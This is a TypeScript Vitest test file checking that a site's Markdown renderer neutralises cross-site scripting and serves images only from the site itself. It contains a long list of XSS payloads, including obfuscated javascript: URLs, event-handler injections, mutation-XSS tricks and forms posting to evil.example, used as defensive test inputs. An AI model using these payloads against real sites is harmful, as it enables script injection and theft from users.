import { Parser } from "htmlparser2";
import { describe, expect, it } from "vitest";
import { imagesMissingAlt, markdownToPlainText, renderMarkdown, storyImageIds, storyImageMarkdown } from "@/lib/markdown";
import { contentSecurityPolicy } from "@/proxy";

type Element = { name: string; attribs: Record<string, string> };

/** Every element in the HTML, with attribute values decoded as a browser would. */
function elementsOf(html: string): Element[] {
  const elements: Element[] = [];
  const parser = new Parser(
    { onopentag: (name, attribs) => elements.push({ name, attribs }) },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return elements;
}

const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  p: [], br: [], hr: [], h2: [], h3: [], h4: [], strong: [], em: [], del: [], blockquote: [], ul: [], li: [],
  code: [], pre: [], table: [], thead: [], tbody: [], tr: [], td: [],
  ol: ["start"],
  th: ["scope"],
  a: ["href", "rel"],
  img: ["src", "alt", "title", "loading"],
};
const FORBIDDEN_ELEMENTS = ["script", "iframe", "object", "embed", "svg", "math", "style", "form", "base", "meta", "link", "input", "details"];

/** What a browser compares against when it decides a URL's scheme: no whitespace or controls, any case. */
function schemeView(url: string): string {
  return url.replace(/[\u0000-\u0020\u007f-\u009f]/g, "").toLowerCase();
}

function expectSafe(html: string, payload: string) {
  const context = `${payload}\n→ ${html}`;
  // Belt and braces beside the parser: every "<" in the output opens or closes an allowed tag.
  const tagName = /<\/?([a-zA-Z0-9]*)/g;
  for (const match of html.matchAll(tagName)) {
    expect(Object.keys(ALLOWED_ATTRIBUTES), context).toContain(match[1]!.toLowerCase());
  }
  expect(html.replace(/<\/?[a-z0-9]+(\s[^<>]*)?\/?>/g, ""), context).not.toMatch(/</);

  for (const { name, attribs } of elementsOf(html)) {
    expect(FORBIDDEN_ELEMENTS, context).not.toContain(name);
    expect(Object.keys(ALLOWED_ATTRIBUTES), context).toContain(name);
    for (const [attribute, value] of Object.entries(attribs)) {
      expect(attribute.startsWith("on"), context).toBe(false);
      expect(["style", "class", "id", "target", "srcdoc", "formaction", "xlink:href"], context).not.toContain(attribute);
      expect(ALLOWED_ATTRIBUTES[name], context).toContain(attribute);
      if (attribute === "href" || attribute === "src") {
        expect(schemeView(value), context).not.toMatch(/^(javascript|vbscript|data):/);
        if (attribute === "src") {
          // An image comes only from this site's own file route.
          expect(value, context).toMatch(/^\/api\/files\/[A-Za-z0-9_-]+\?inline=1$/);
        } else {
          expect(["http:", "https:", "mailto:"], context).toContain(new URL(value).protocol);
        }
      }
    }
  }
}

const XSS_PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<IMG SRC="javascript:alert(1)">',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#x09;script:alert(1))",
  "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
  "[x](&#x6A;avascript&#x3A;alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](  javascript:alert(1) \"title\")",
  "[x](<javascript:alert(1)>)",
  "[x][evil]\n\n[evil]: javascript:alert(1)",
  "<javascript:alert(1)>",
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#14;javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<iframe src="https://evil.example"></iframe>',
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<style>body { background: url("javascript:alert(1)") }</style>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Go</button></form>',
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](DATA:text/html,<script>alert(1)</script>)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "[x](vbscript:msgbox(1))",
  "![x](VBScript:msgbox(1))",
  "<details open ontoggle=alert(1)>",
  '![x](https://example.org/a.png "\\" onerror=\\"alert(1)")',
  '![x](https://example.org/a.png"onerror="alert(1))',
  "![x][evil]\n\n[evil]: javascript:alert(1)",
  "[<img src=x onerror=alert(1)>](https://example.org)",
  "[![x](javascript:alert(1))](javascript:alert(2))",
  "<div><p><b onmouseover=alert(1)>unclosed <a href=javascript:alert(1)",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<p style="background: expression(alert(1))">x</p>',
  '<div style="width: expression(alert(1));">x</div>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<!--><img src=x onerror=alert(1)>-->",
  "```\"><script>alert(1)</script>\ncode\n```",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- <a href=\"javascript:alert(1)\">item</a>\n  > <script>alert(1)</script>",
  "www.example.org/<script>alert(1)</script>",
  "> [x](javascript:alert(1))\n> ![y](javascript:alert(1))",
  '<h1 id="x" class="y">Heading</h1>',
];

describe("renderMarkdown: what members write cannot run or restyle anything", () => {
  it("has a real list of payloads", () => {
    expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(25);
  });

  it.each(XSS_PAYLOADS)("neutralises %s", (payload) => {
    expectSafe(renderMarkdown(payload), payload);
  });

  it("stays safe when every payload is in one story", () => {
    const story = XSS_PAYLOADS.join("\n\n");
    expectSafe(renderMarkdown(story), "all payloads");
  });

  it("shows raw HTML as the text that was typed", () => {
    const html = renderMarkdown("<img src=x onerror=alert(1)> and <b>bold</b>");
    expect(elementsOf(html).map((element) => element.name)).toEqual(["p"]);
    expect(html).toContain("&lt;b&gt;bold&lt;/b&gt;");
  });

  it("keeps the words of a link it will not follow", () => {
    expect(renderMarkdown("[our report](javascript:alert(1))")).toBe("<p>our report</p>");
    expect(renderMarkdown("[our report](/relative/page)")).toBe("<p>our report</p>");
  });

  it("survives nesting too deep to parse, showing the text", () => {
    const html = renderMarkdown(`${">".repeat(5000)} <script>alert(1)</script>`);
    expectSafe(html, "deep nesting");
    expect(html).toContain("&lt;script&gt;");
  });
});

describe("renderMarkdown: the Markdown members need", () => {
  it("moves headings down a level so the page's h1 stays the only one", () => {
    const html = renderMarkdown("# Our story\n\n## How it started\n\n### Week one\n\n#### Day one\n\nUnderlined\n===");
    expect(elementsOf(html).map((element) => element.name)).toEqual(["h2", "h3", "h4", "h4", "h2"]);
    expect(html).toContain("<h2>Our story</h2>");
  });

  it("makes links safe to open and never opens new windows", () => {
    const html = renderMarkdown("[NHS England](https://www.england.nhs.uk/ \"NHS\") and [email us](mailto:team@example.org) and www.example.org");
    const links = elementsOf(html).filter((element) => element.name === "a");
    expect(links.map((link) => link.attribs.href)).toEqual([
      "https://www.england.nhs.uk/",
      "mailto:team@example.org",
      "http://www.example.org/",
    ]);
    for (const link of links) expect(link.attribs).toEqual({ href: link.attribs.href, rel: "noopener noreferrer nofollow" });
  });

  it("shows the story's own uploaded image from this site, with its description and title, lazily", () => {
    const html = renderMarkdown('![Volunteers at the hub](file:abc123 "Opening day")', { ownImages: new Set(["abc123"]) });
    expect(elementsOf(html).find((element) => element.name === "img")).toEqual({
      name: "img",
      attribs: { src: "/api/files/abc123?inline=1", alt: "Volunteers at the hub", title: "Opening day", loading: "lazy" },
    });
    expectSafe(html, "own image");
  });

  it("shows nothing of a file that is not the story's own, and no relative image address an author typed", () => {
    const html = renderMarkdown("![Budget](file:someoneelses)\n\n![Sneaky](/api/files/abc123?inline=1)", { ownImages: new Set(["abc123"]) });
    expect(elementsOf(html).filter((element) => element.name === "img")).toEqual([]);
    expect(html).toBe("<p>Budget</p>\n<p>Sneaky</p>");
  });

  it("shows an image by a web address as a link to that website, never loading it", () => {
    const html = renderMarkdown("![Volunteers at the hub](https://example.org/hub.jpg)");
    const elements = elementsOf(html);
    expect(elements.filter((element) => element.name === "img")).toEqual([]);
    expect(elements.find((element) => element.name === "a")?.attribs).toEqual({ href: "https://example.org/hub.jpg", rel: "noopener noreferrer nofollow" });
    expect(html).toContain("Picture: Volunteers at the hub (on example.org, another website)");
  });

  it("does not pass an uploaded image with no alt text off as decorative", () => {
    const image = elementsOf(renderMarkdown("![](file:abc123)", { ownImages: new Set(["abc123"]) })).find((element) => element.name === "img");
    expect(image?.attribs).toEqual({ src: "/api/files/abc123?inline=1", loading: "lazy" });
  });

  it("renders lists, tables, quotes, code and emphasis", () => {
    const source = [
      "**Strong**, _emphasis_ and ~~struck~~.",
      "- one\n- two",
      "3. three\n4. four",
      "| Partner | Role |\n|:--|--:|\n| Council | Lead |",
      "> A quote",
      "```ts\nconst a = 1 < 2;\n```",
      "---",
    ].join("\n\n");
    const html = renderMarkdown(source);
    const names = elementsOf(html).map((element) => element.name);
    for (const name of ["strong", "em", "del", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "blockquote", "pre", "code", "hr"]) {
      expect(names, name).toContain(name);
    }
    expect(html).toContain('<ol start="3">');
    expect(html).toContain('<th scope="col">Partner</th>');
    expect(html).toContain("<td>Council</td>");
    expect(html).toContain("const a = 1 &lt; 2;");
    expectSafe(html, source);
  });

  it("shows HTML typed in a code span as text", () => {
    expect(renderMarkdown("Type `<b>` for bold")).toBe("<p>Type <code>&lt;b&gt;</code> for bold</p>");
  });

  it("keeps task list boxes as the text typed", () => {
    expect(renderMarkdown("- [x] Agree terms\n- [ ] Sign")).toBe("<ul>\n<li>[x] Agree terms</li>\n<li>[ ] Sign</li>\n</ul>");
  });
});

describe("imagesMissingAlt", () => {
  it("lists the images written without alt text, once each, in order", () => {
    const source = [
      "![](https://example.org/one.jpg)",
      "![A described image](https://example.org/two.jpg)",
      "![  ](https://example.org/three.jpg \"Only a title\")",
      "- ![](https://example.org/four.jpg)",
      "[![](https://example.org/five.jpg)](https://example.org)",
      "![][ref]",
      "![](https://example.org/one.jpg)",
      "![](javascript:alert(1))",
      "`![](https://example.org/in-code.jpg)`",
      "![](file:uploaded1)",
      "![A described upload](file:uploaded2)",
      "[ref]: https://example.org/six.jpg",
    ].join("\n\n");
    expect(imagesMissingAlt(source)).toEqual([
      "https://example.org/one.jpg",
      "https://example.org/three.jpg",
      "https://example.org/four.jpg",
      "https://example.org/five.jpg",
      "https://example.org/six.jpg",
      "file:uploaded1",
    ]);
  });

  it("is empty when every image is described", () => {
    expect(imagesMissingAlt("![Team photo](https://example.org/team.jpg) and no others")).toEqual([]);
  });
});

describe("markdownToPlainText", () => {
  it("strips the markup and keeps the words", () => {
    const source = "# Our story\n\n**Bold** and [a link](https://example.org).\n\n- one\n- two\n\n![Team photo](https://example.org/t.jpg)\n\nTom &amp; Jerry, `a < b`, <b>typed</b>";
    expect(markdownToPlainText(source)).toBe("Our story Bold and a link. one two Team photo Tom & Jerry, a < b, <b>typed</b>");
  });

  it("collapses whitespace", () => {
    expect(markdownToPlainText("  one\n\n\n two   three\t four  ")).toBe("one two three four");
  });

  it("cuts at a word and ends with an ellipsis, within the length", () => {
    const text = markdownToPlainText("The partnership **reduced** delayed discharges by a third.", 30);
    expect(text).toBe("The partnership reduced…");
    expect(text.length).toBeLessThanOrEqual(30);
  });

  it("leaves short text whole", () => {
    expect(markdownToPlainText("Short and _sweet_.", 30)).toBe("Short and sweet.");
  });

  it("never splits an emoji", () => {
    const text = markdownToPlainText("🤝🤝🤝🤝🤝🤝", 4);
    expect(Array.from(text)).toEqual(["🤝", "🤝", "🤝", "…"]);
  });
});

describe("uploaded story images", () => {
  it("are written with their description, brackets escaped, and found again by id", () => {
    const markdown = storyImageMarkdown("abc123", "Tea [and cake]\nat the hub");
    expect(markdown).toBe("![Tea \\[and cake\\] at the hub](file:abc123)");
    expect(storyImageIds(`${markdown}\n\n![Again](file:abc123) ![Other](file:def456) ![Web](https://example.org/x.png)`)).toEqual(["abc123", "def456"]);
    const image = elementsOf(renderMarkdown(markdown, { ownImages: new Set(["abc123"]) })).find((element) => element.name === "img");
    expect(image?.attribs.alt).toBe("Tea [and cake] at the hub");
  });

  it("are the only images a page may load: the Content-Security-Policy allows images from this site alone", () => {
    const policy = contentSecurityPolicy("nonce", { https: true, development: false });
    expect(policy.split("; ").filter((directive) => directive.startsWith("img-src"))).toEqual(["img-src 'self'"]);
  });
});
